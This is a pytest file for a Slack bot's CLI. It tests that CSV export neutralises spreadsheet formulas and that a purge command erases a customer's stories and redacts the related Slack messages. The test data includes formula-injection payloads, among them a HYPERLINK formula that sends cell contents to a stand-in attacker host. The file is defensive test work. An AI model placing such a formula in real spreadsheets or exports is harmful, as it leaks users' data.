"""`impact-bot export`/`import` with formula cells and `impact-bot purge` with posts in Slack,
run as an operator runs them: `python -m bot ...` in a subprocess, against the Slack stand-in."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from bot.services import build_services
from bot.transfer import FORMULA_STARTS
from domain.schedule import ChannelSchedule, ScheduleSpec
from domain.story import Draft, Story
from storage import queries
from storage.db import Database
from storage.models import PostRow, ReactionRow
from tests.conftest import make_settings
from tests.slack_spec import assert_calls_match_spec
from tests.slack_standin import SlackStandin

ROOT = Path(__file__).resolve().parents[1]
AUTHOR, CREDITED, OTHER = "U0AUTHOR", "U0CREDIT", "U0OTHER"
REDACTED = "This story was removed at the customer's request."


def run(db_url: str, cwd: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "IMPACT_", "DATABASE_"))}
    base.update({"DATABASE_URL": db_url, "PYTHONPATH": str(ROOT)})
    base.update(env)
    # Bytes, decoded without newline translation: a CR inside a CSV cell must reach the test as is.
    done = subprocess.run(
        [sys.executable, "-m", "bot", *args], cwd=cwd, env=base, capture_output=True, timeout=60
    )
    return subprocess.CompletedProcess(
        done.args, done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
    )


def database(path: Path) -> Database:
    db = Database(f"sqlite:///{path}")
    db.migrate()
    return db


def add(db: Database, customer: str, author: str = AUTHOR, **fields: Any) -> Story:
    with db.session() as session:
        ws = queries.workspace_id(session, "T111")
        draft = Draft(**{"customer": customer, "quote": f"{customer} saved us a week", **fields})
        return queries.add_story(session, ws, draft, author=author, channel=fields.pop("channel", "C0"))


# --- export and import ---------------------------------------------------------------------

FORMULAS = [
    {
        "customer": '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
        "quote": "+1 for the export",
        "contact": "-1",
    },
    {"customer": "@SUM(A1:A9)", "quote": "-5 minutes a day", "impact": "=1+1", "tags": ("-neg", "@at")},
    {"customer": "'=typed apostrophe", "quote": 'She said "=2+2",\nthen:\tdone', "consent": "anonymous"},
    {
        "customer": "Tab Corp",
        "quote": "-",
        "contact": "+49 30 1234",
        "source": "https://example.com/?a=1&b=2",
    },
]


def test_csv_export_runs_no_formula_and_import_gives_back_exactly_the_stories(tmp_path: Path) -> None:
    source = database(tmp_path / "source.db")
    created = datetime(2026, 1, 5, 9, 30, 0, 123456, tzinfo=UTC)
    with source.session() as session:
        ws = queries.workspace_id(session, "T111")
        for n, fields in enumerate(FORMULAS):
            queries.add_story(
                session,
                ws,
                Draft(**{"credited": ("U0CREDIT", "U0OTHER"), **fields}).cleaned(),
                author=AUTHOR,
                channel=f"C0CHAN{n}",
                created_at=created + timedelta(days=n),
                updated_at=created + timedelta(days=n, hours=5),
            )
        # A raw tab or carriage return at the start, as only data written around the bot can have.
        queries.add_story(
            session,
            ws,
            Draft(customer="\t=cmd", quote="\r+1"),
            author=AUTHOR,
            created_at=created + timedelta(days=9),
        )
    source_url = f"sqlite:///{tmp_path / 'source.db'}"
    exported = run(source_url, tmp_path, "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout, newline="")))
    # Opened in a spreadsheet, no cell runs: every cell that would starts with '.
    assert all(not cell.startswith(tuple(FORMULA_STARTS)) for row in rows for cell in row)
    header = rows[0]
    by_name = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert by_name[0]["customer"].startswith("'=HYPERLINK(") and by_name[0]["contact"] == "'-1"
    assert by_name[1]["customer"] == "'@SUM(A1:A9)" and by_name[1]["tags"] == "'-neg, @at"
    assert by_name[2]["customer"] == "''=typed apostrophe" and by_name[3]["contact"] == "'+49 30 1234"
    assert by_name[4]["customer"] == "'\t=cmd" and by_name[4]["quote"] == "'\r+1"

    csv_file = tmp_path / "stories.csv"
    csv_file.write_bytes(exported.stdout.encode("utf-8"))
    target_url = f"sqlite:///{tmp_path / 'target.db'}"
    imported = run(target_url, tmp_path, "import", str(csv_file), "--team", "T111")
    assert imported.returncode == 0, imported.stderr
    assert "imported 5, already present 0, rejected 0" in imported.stdout

    def records(url: str) -> list[dict[str, Any]]:
        result = run(url, tmp_path, "export", "--format", "json")
        assert result.returncode == 0, result.stderr
        return [{k: v for k, v in r.items() if k != "id"} for r in json.loads(result.stdout)]

    before, after = records(source_url), records(target_url)
    # Every field of the stories the bot stored, channel and updated_at included.
    assert after[:4] == before[:4]
    assert {r["channel"] for r in after[:4]} == {f"C0CHAN{n}" for n in range(4)}
    assert after[0]["updated_at"] == "2026-01-05T14:30:00.123456+00:00"
    # The raw one comes back as the bot would have stored it: trimmed, CR as a line break.
    assert (after[4]["customer"], after[4]["quote"]) == ("=cmd", "+1")


# --- purge ---------------------------------------------------------------------------------


def post_in_slack(db: Database, standin: SlackStandin) -> dict[str, Any]:
    """Stories of Acme Corp (twice, in different case), and of two others, posted in Slack
    with direct messages, a stand-up prompt quoting one, and reactions on a post."""
    settings = make_settings(standin, db.url)
    poster = build_services(settings, db, with_scheduler=False).poster
    kept = add(db, "Acme Corp International", tags=("kilo",))
    acme = add(db, "Acme Corp", credited=(CREDITED,), tags=("alpha",))
    shouting = add(db, "ACME CORP", author=OTHER, consent="anonymous", tags=("bravo",))
    with db.session() as session:
        ws = queries.workspace_id(session, "T111")
    for channel, tag in (("C0KILO", "kilo"), ("C0ALPHA", "alpha"), ("C0BRAVO", "bravo")):
        outcome = poster.post_story_now("T111", ws, channel, query=tag)
        assert outcome.status == "posted"
    # A stand-up prompt quoting the newest voice: the anonymous ACME CORP story.
    spec = ScheduleSpec("prompt", ("mon",), "09:00", "UTC")
    now = datetime.now(UTC)
    schedule = ChannelSchedule(0, ws, "T111", "C0STANDUP", spec, now, (), None, ())
    assert poster.run_slot(schedule, now.replace(second=0, microsecond=0), now) == "posted"
    [prompt] = standin.messages["C0STANDUP"]
    assert "ACME CORP saved us a week" in json.dumps(prompt)
    [alpha_post] = standin.messages["C0ALPHA"]
    with db.session() as session:
        session.add(
            ReactionRow(
                workspace_id=ws, channel_id="C0ALPHA", ts=alpha_post["ts"], user_id="U9", reaction="tada"
            )
        )
    return {"ws": ws, "kept": kept, "acme": acme, "shouting": shouting}


def texts(standin: SlackStandin, channel: str) -> list[str]:
    return [json.dumps(m, ensure_ascii=False) for m in standin.messages.get(channel, [])]


def test_purge_erases_the_stories_and_redacts_posts_and_dms_in_slack(tmp_path: Path) -> None:
    db = database(tmp_path / "cli.db")
    with SlackStandin() as standin:
        seeded = post_in_slack(db, standin)
        before = {channel: list(msgs) for channel, msgs in standin.messages.items()}
        assert len(before["DU0AUTHOR"]) == 2  # one DM about the story kept, one about Acme Corp
        standin.clear()
        standin.messages.update({channel: [dict(m) for m in msgs] for channel, msgs in before.items()})
        # Slack cannot reach one post, and one DM is already gone.
        standin.error("chat.update", "channel_not_found", channel="C0BRAVO")
        standin.error("chat.update", "message_not_found", channel="DU0CREDIT")

        env = {"SLACK_BOT_TOKEN": "xoxb-test", "SLACK_API_URL": standin.base_url}
        result = run(db.url, tmp_path, "purge", "--customer", "acme corp", **env)
        assert result.returncode == 0, result.stderr
        lines = result.stdout.strip().splitlines()
        assert lines[0] == "workspace T111: erased 2 stories of 'acme corp'"
        assert "could not reach 2 messages:" in result.stdout
        assert (
            f"story post C0BRAVO {before['C0BRAVO'][0]['ts']}: channel_not_found (the next purge tries again)"
            in (result.stdout)
        )
        assert (
            "direct message DU0CREDIT" in result.stdout and "message_not_found (nothing left" in result.stdout
        )
        assert lines[-1] == (
            "erased 2 stories, redacted 4 messages, could not reach 2 "
            "(channel_not_found: 1, message_not_found: 1)"
        )

        # The story post and the DMs about Acme Corp now say only that the story was removed.
        [alpha] = standin.messages["C0ALPHA"]
        assert alpha["text"] == REDACTED and alpha["blocks"][0]["text"]["text"] == REDACTED
        assert "Acme" not in json.dumps(alpha) and len(alpha["blocks"]) == 1
        about_kept, about_acme = standin.messages["DU0AUTHOR"]
        assert about_acme["text"] == REDACTED
        assert about_kept == before["DU0AUTHOR"][0] and "Acme Corp International" in about_kept["text"]
        assert standin.messages["DU0OTHER"][0]["text"] == REDACTED
        # The stand-up prompt keeps its question and loses the quote.
        [prompt] = standin.messages["C0STANDUP"]
        assert prompt["text"] == before["C0STANDUP"][0]["text"]
        assert "saved us a week" not in json.dumps(prompt) and "Voice of the customer" not in json.dumps(
            prompt
        )
        # Not reached, or not ours to touch: unchanged.
        assert standin.messages["C0BRAVO"] == before["C0BRAVO"]
        assert standin.messages["DU0CREDIT"] == before["DU0CREDIT"]
        assert standin.messages["C0KILO"] == before["C0KILO"]
        updates = standin.calls_to("chat.update")
        assert all(c.token == "xoxb-test" for c in updates)
        assert_calls_match_spec(standin.calls)

        with db.session() as session:
            ws = seeded["ws"]
            left = [s.customer for s in queries.live_stories(session, ws)]
            pending = queries.pending_redactions(session, ws)
            reactions = session.scalars(select(ReactionRow)).all()
            kinds = sorted(r.kind for r in session.scalars(select(PostRow)))
        assert left == ["Acme Corp International"]
        assert [(p.channel_id, p.kind) for p in pending] == [("C0BRAVO", "story")]
        assert reactions == []  # appreciation of an erased story goes with it
        assert kinds == ["dm", "purge:story", "story"]  # what is left: the kept story's post and DM

        # Once Slack can reach it, the next purge redacts what is left, and only that.
        standin.reset_faults()
        again = run(db.url, tmp_path, "purge", "--customer", "ACME CORP", **env)
        assert again.returncode == 0, again.stderr
        assert (
            again.stdout.strip().splitlines()[-1] == "erased 0 stories, redacted 1 message, could not reach 0"
        )
        assert standin.messages["C0BRAVO"][0]["text"] == REDACTED
        assert [c.args["channel"] for c in standin.calls_to("chat.update")][len(updates) :] == ["C0BRAVO"]


def test_purge_without_a_token_erases_and_reports_every_message_for_the_next_purge(tmp_path: Path) -> None:
    db = database(tmp_path / "cli.db")
    with SlackStandin() as standin:
        post_in_slack(db, standin)
        result = run(db.url, tmp_path, "purge", "--customer", "Acme Corp", SLACK_API_URL=standin.base_url)
        assert result.returncode == 0, result.stderr
        assert result.stdout.strip().splitlines()[-1] == (
            "erased 2 stories, redacted 0 messages, could not reach 6 (no_token: 6)"
        )
        assert standin.calls_to("chat.update") == []
        env = {"SLACK_BOT_TOKEN": "xoxb-test", "SLACK_API_URL": standin.base_url}
        result = run(db.url, tmp_path, "purge", "--customer", "Acme Corp", **env)
        assert (
            result.stdout.strip().splitlines()[-1]
            == "erased 0 stories, redacted 6 messages, could not reach 0"
        )
        assert REDACTED in texts(standin, "C0ALPHA")[0]


def test_purge_matches_the_whole_name_in_any_case_and_refuses_an_ambiguous_workspace(tmp_path: Path) -> None:
    db = database(tmp_path / "cli.db")
    for name in ("Müller GmbH", "MÜLLER GMBH", "Müller GmbH & Co", "Mueller GmbH", "Other"):
        add(db, name)
    result = run(db.url, tmp_path, "purge", "--customer", "  müller gmbh ")
    assert result.returncode == 0, result.stderr
    assert (
        result.stdout.strip().splitlines()[-1] == "erased 2 stories, redacted 0 messages, could not reach 0"
    )
    with db.session() as session:
        ws = queries.workspace_id(session, "T111")
        assert sorted(s.customer for s in queries.live_stories(session, ws)) == [
            "Mueller GmbH",
            "Müller GmbH & Co",
            "Other",
        ]
    nothing = run(db.url, tmp_path, "purge", "--customer", "Müller")
    assert nothing.returncode == 0 and "erased 0 stories" in nothing.stdout
    with db.session() as session:
        queries.workspace_id(session, "T222")
    ambiguous = run(db.url, tmp_path, "purge", "--customer", "Other")
    assert ambiguous.returncode == 1 and "--team" in ambiguous.stderr
    assert ambiguous.stderr.count("\n") == 1 and ambiguous.stdout == ""


@pytest.mark.parametrize("name", ["", "   "])
def test_purge_refuses_an_empty_name(tmp_path: Path, name: str) -> None:
    database(tmp_path / "cli.db")
    result = run(f"sqlite:///{tmp_path / 'cli.db'}", tmp_path, "purge", "--customer", name)
    assert result.returncode == 1 and "--customer" in result.stderr
